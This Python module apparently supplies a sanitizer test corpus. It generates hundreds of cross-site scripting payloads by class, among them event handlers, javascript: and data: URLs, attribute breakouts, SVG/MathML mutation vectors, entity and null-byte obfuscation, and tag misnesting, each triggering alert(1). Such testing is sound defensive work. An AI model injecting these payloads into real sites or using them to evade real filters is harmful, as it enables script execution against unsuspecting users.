"""Payloads by class, written for this project. Each tries to call alert(1) when it is shown or touched."""

from collections.abc import Iterator
from itertools import product

CALL = "alert(1)"
ENCODED_CALL = "".join(f"&#x{ord(character):x};" for character in CALL)
DATA_SCRIPT = "data:text/html,<script>alert(1)</script>"

EVENTS = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onbegin"]
WHITE = [
    "",
    " ",
    "\t",
    "\n",
    "\x01",
    "\x1f",
    "\u00a0",
    "\u1680",
    "\u2028",
    "\u2029",
    "\u3000",
    "\ufeff",
    "\x0c",
    "\x00",
]
SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "&#106;avascript:",
    "javascript&colon;",
]


def scripts() -> Iterator[str]:
    yield from (
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script >alert(1)</script >",
        "<script/x>alert(1)</script>",
        "<script\n>alert(1)</script\n>",
        "<script src='data:,alert(1)'></script>",
        "<script type=module>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<scr\0ipt>alert(1)</scr\0ipt>",
        "<<script>alert(1)//<</script>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script>alert&#40;1&#41;</script></svg>",
        "<svg><script href='data:,alert(1)'/></svg>",
        "<svg><script xlink:href='data:,alert(1)'/></svg>",
        "<math><script>alert(1)</script></math>",
        "&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(1)</script>",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e<script>alert(1)</script>",
    )


def handlers() -> Iterator[str]:
    for event, separator in product(EVENTS, [" ", "/", "\t", "\n", "\x0c", "\x00 "]):
        yield f"<img{separator}src=x{separator}{event}={CALL}>"
    for event in EVENTS:
        yield f"<svg {event}={CALL}><circle r=9 /></svg>"
        yield f"<body {event}={CALL}>"
        yield f"<details open {event}={CALL}><summary>x</summary></details>"
        yield f"<div tabindex=1 autofocus {event}='{ENCODED_CALL}'>x</div>"
        yield f'<p {event.upper()}="{CALL}">x</p>'
    yield from (
        "<video><source onerror=alert(1)></video>",
        "<video src=x onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)></audio>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)></select>",
        "<textarea autofocus onfocus=alert(1)></textarea>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<iframe onload=alert(1)></iframe>",
        "<object onerror=alert(1) data=x></object>",
        "<link rel=stylesheet href=x onerror=alert(1)>",
        "<style onload=alert(1)>a{}</style>",
        "<image src=x onerror=alert(1)>",
        "<x onclick=alert(1)>x</x>",
        "<a href=# onclick=alert(1)>x</a>",
    )


def url_tricks() -> Iterator[str]:
    for white, scheme in product(WHITE, SCHEMES):
        yield f'<a href="{white}{scheme}{CALL}">x</a>'
    for scheme in (*SCHEMES, "vbscript:"):
        yield f'<iframe src="{scheme}{CALL}"></iframe>'
        yield f'<form action="{scheme}{CALL}"><button>x</button></form>'
        yield f'<form><button formaction="{scheme}{CALL}">x</button></form>'
        yield f'<object data="{scheme}{CALL}"></object>'
        yield f'<embed src="{scheme}{CALL}">'
        yield f'<img src="{scheme}{CALL}">'
        yield f'<img src=x srcset="{scheme}{CALL} 2x">'
        yield f'<img data-src="{scheme}{CALL}">'
        yield f'<base href="{scheme}{CALL}//"><a href="#">x</a>'
        yield f'<area href="{scheme}{CALL}" shape=default>'
        yield f'<blockquote cite="{scheme}{CALL}">x</blockquote>'
    yield from (
        f'<a href="{DATA_SCRIPT}">x</a>',
        f'<iframe src="{DATA_SCRIPT}"></iframe>',
        f'<object data="{DATA_SCRIPT}"></object>',
        "<a href='javascript://%0aalert(1)'>x</a>",
        "<a href='javascript:javascript:alert(1)'>x</a>",
        "<a href='//javascript:alert(1)'>x</a>",
        "<a href='http://x\" onmouseover=\"alert(1)'>x</a>",
        "<img src='/media/image?url=x\" onerror=\"alert(1)'>",
        "<img src='/media/image?url=javascript%3Aalert(1)' onerror=alert(1)>",
        "<img src='`onerror=alert(1)'>",
    )


def attribute_breakouts() -> Iterator[str]:
    for attribute, quote in product(["alt", "title", "src", "href", "width", "datetime"], ['"', "'", "`", ""]):
        yield f"<img {attribute}={quote}x{quote}onerror=alert(1) src=x>"
        yield f"<a {attribute}={quote}x{quote}><img src=x onerror=alert(1)>{quote}>x</a>"
        yield f"<img {attribute}='&quot; onerror=alert(1) x=&quot;' src=x onerror=alert(1)>"
    yield from (
        '<a title="</a><img src=x onerror=alert(1)>">x</a>',
        '<img alt="--><img src=x onerror=alert(1)>" src=x>',
        '<img """><script>alert(1)</script>">',
        "<img src=x:x onerror\n=\nalert(1)>",
        "<p title='</p><script>alert(1)</script>'>x</p>",
        "<time datetime='&lt;img src=x onerror=alert(1)&gt;'>x</time><img src=x onerror=alert(1)>",
    )


def css() -> Iterator[str]:
    yield from (
        "<style>@import 'data:text/css,*{color:red}';</style><img src=x onerror=alert(1)>",
        "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert(1)>x</p>",
        "<style></style\n><img src=x onerror=alert(1)></style>",
        "<style><!--</style><img src=x onerror=alert(1)>--></style>",
        "<style>a{}</style/><img src=x onerror=alert(1)>",
        "<p style='background:url(javascript:alert(1))'><img src=x onerror=alert(1)>x</p>",
        "<div style='width:expression(alert(1))' onclick=alert(1)>x</div>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style><p>x</p><img src=x onerror=alert(1)>",
        '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
        '<math><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></math>'
        "<img src=x onerror=alert(1)>",
    )


def documents() -> Iterator[str]:
    yield from (
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
        "<iframe srcdoc=\"<img src=x onerror='parent.alert(1)'>\"></iframe>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><img src=x onerror=alert(1)>",
        f"<meta http-equiv=refresh content='0;{DATA_SCRIPT}'><img src=x onerror=alert(1)>",
        "<meta http-equiv='Set-Cookie' content='a=b'><script>alert(1)</script>",
        "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-<script>alert(1)</script>",
        "<link rel=import href='data:text/html,<script>alert(1)</script>'><img src=x onerror=alert(1)>",
        "<frameset onload=alert(1)><frame src=x></frameset>",
        "<object data='data:text/html,<script>alert(1)</script>'></object><img src=x onerror=alert(1)>",
        '<embed src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\'>'
        "<svg onload=alert(1)></svg>",
        "<portal src='javascript:alert(1)'></portal><svg onload=alert(1)></svg>",
        "<html><head><body onload=alert(1)><p>x",
        "<base target=_self href='javascript:/'><a href='alert(1)'>x</a><img src=x onerror=alert(1)>",
    )


def foreign_content() -> Iterator[str]:
    inner = "<img src=x onerror=alert(1)>"
    for outer in ["svg", "math", "svg><desc", "svg><title", "svg><foreignObject", "math><mtext", "math><mi"]:
        yield f"<{outer}>{inner}"
        yield f"<{outer}><p>{inner}</p>"
        yield f"<{outer}><style>{inner}</style>"
        yield f"<{outer}><style><!--</style>{inner}-->"
        yield f'<{outer}><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;{inner}">{inner}'
        yield f"<{outer}><textarea>{inner}</textarea>{inner}"
        yield f"<{outer}><noscript>{inner}</noscript>{inner}"
        yield f"<{outer}><template>{inner}</template>{inner}"
        yield f"<form><{outer}><form>{inner}"
    yield from (
        "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
        "<svg><a href='javascript:alert(1)'><text y=20>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set onbegin=alert(1) attributeName=x>",
        "<svg><a><animate attributeName=href values='javascript:alert(1)' /><text y=20>x</text></a></svg>"
        "<svg onload=alert(1)></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'/></svg><svg onload=alert(1)>",
        "<svg><foreignObject><body onload=alert(1)><img src=x onerror=alert(1)></foreignObject></svg>",
        "<svg><image href=x onerror=alert(1) /></svg>",
        "<svg><handler type='text/javascript'>alert(1)</handler></svg><svg onload=alert(1)></svg>",
        "<math href='javascript:alert(1)'>x</math><img src=x onerror=alert(1)>",
        "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>"
        "<svg onload=alert(1)></svg>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
        "<math><annotation-xml encoding='TEXT/html'><style><img src=x onerror=alert(1)></style>",
        "<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>",
        '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
        '<img src=x onerror=alert(1)>"></style></h1>',
        "<svg></br><img src=x onerror=alert(1)>",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg><img src=x onerror=alert(1)>",
    )


def raw_text() -> Iterator[str]:
    inner = "<img src=x onerror=alert(1)>"
    for tag in [
        "noscript",
        "textarea",
        "title",
        "xmp",
        "noembed",
        "noframes",
        "iframe",
        "style",
        "template",
        "plaintext",
    ]:
        yield f"<{tag}></{tag}>{inner}"
        yield f'<{tag}><p title="</{tag}>{inner}">'
        yield f"<{tag}><!--</{tag}>{inner}-->"
        yield f"<{tag}>{inner}</{tag}>{inner}"
        yield f"<{tag}/>{inner}</{tag}\n>{inner}"
        yield f"<p><{tag}><a href='</{tag}>{inner}'>x</a></{tag}></p>{inner}"
    yield from (
        "<template><script>alert(1)</script></template><svg onload=alert(1)></svg>",
        "<template shadowrootmode=open><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>",
        "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
        "<select><iframe></select><img src=x onerror=alert(1)>",
        "<select><template><img src=x onerror=alert(1)></template></select><img src=x onerror=alert(1)>",
    )


def comments() -> Iterator[str]:
    inner = "<img src=x onerror=alert(1)>"
    yield from (
        f"<!-->{inner}-->",
        f"<!--->{inner}-->",
        f"<!----!>{inner}-->",
        f"<!-- --!>{inner}-->",
        '<!--<img src="--><img src=x onerror=alert(1)//">',
        f"<!-- ` -->{inner}<!-- ` -->",
        f"<!{inner}>{inner}",
        f"<?xml version='1.0'?>{inner}",
        f"<?{inner}?>",
        f"</{inner}>{inner}",
        f"<![CDATA[{inner}]]>{inner}",
        f"<![CDATA[><!--]]>{inner}<!-- -->",
        f"<!doctype html [<!entity x '{inner}'>]>{inner}",
        f"<!--[if gte IE 4]>{inner}<![endif]-->{inner}",
    )


def nulls_and_entities() -> Iterator[str]:
    yield from (
        "<img src=x on\0error=alert(1)>",
        "<img src=x onerror\0=alert(1)><img src=x onerror=alert(1)>",
        "<im\0g src=x onerror=alert(1)><img src=x onerror=alert(1)>",
        "\0<img src=x onerror=alert(1)>",
        "<img\0src=x\0onerror=alert(1)><img src=x onerror=alert(1)>",
        "<a href='java\0script:alert(1)'>x</a><img src=x onerror=alert(1)>",
        f"<img src=x onerror='{ENCODED_CALL}'>",
        "<img src=x onerror=&#97lert(1)>",
        "<img src=x onerror='&NewLine;alert&lpar;1&rpar;'>",
        "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
        "<a href='&Tab;javascript&colon;alert&lpar;1&rpar;'>x</a>",
        "<a href='&#0000000106avascript:alert(1)'>x</a>",
        "&#60;img src=x onerror=alert(1)&#62;<img src=x onerror=alert(1)>",
        "&amp;lt;img src=x onerror=alert(1)&amp;gt;<img src=x onerror=alert(1)>",
        "\u212amg<img src=x onerror=alert(1)>",
        "<\u017fcript>alert(1)</\u017fcript><img src=x onerror=alert(1)>",
        "\ufe64img src=x onerror=alert(1)\ufe65<img src=x onerror=alert(1)>",
    )


def misnesting() -> Iterator[str]:
    inner = "<img src=x onerror=alert(1)>"
    yield from (
        f"<table><tr><td>{inner}</table>",
        f"<table>{inner}<tr><td>x</table>",
        f"<table><caption><table>{inner}</caption></table>",
        f"<table><style>{inner}</style>{inner}</table>",
        f"<table><colgroup>{inner}</colgroup></table>",
        f"<table><form><tr><td></form>{inner}</table>",
        f"<form><table><form>{inner}</form></table></form>",
        f"<form id=x></form><button form=x formaction='javascript:alert(1)'>x</button>{inner}",
        f"<a href=/1><table><a href=/2>{inner}</table></a>",
        f"<b><i><p></b></i>{inner}</p>",
        f"<p><button><p>{inner}</button></p>",
        f"<dl><dt><dd><dt>{inner}</dl>",
        f"<select><option>{inner}</select>{inner}",
        f"<ul><li><svg><li>{inner}</ul>",
        "<div>" * 300 + inner,
        "<b>" * 600 + inner,
        "<table><tr><td>" * 120 + inner,
        "<svg>" * 300 + inner,
        f"<form name=getElementById><input name=attributes>{inner}</form>{inner}",
        f"<img name=body><form name=createElement></form>{inner}",
    )


CLASSES = {
    "scripts": list(scripts()),
    "handlers": list(handlers()),
    "url-tricks": list(url_tricks()),
    "attribute-breakouts": list(attribute_breakouts()),
    "css": list(css()),
    "documents": list(documents()),
    "foreign-content": list(foreign_content()),
    "raw-text": list(raw_text()),
    "comments": list(comments()),
    "nulls-and-entities": list(nulls_and_entities()),
    "misnesting": list(misnesting()),
}
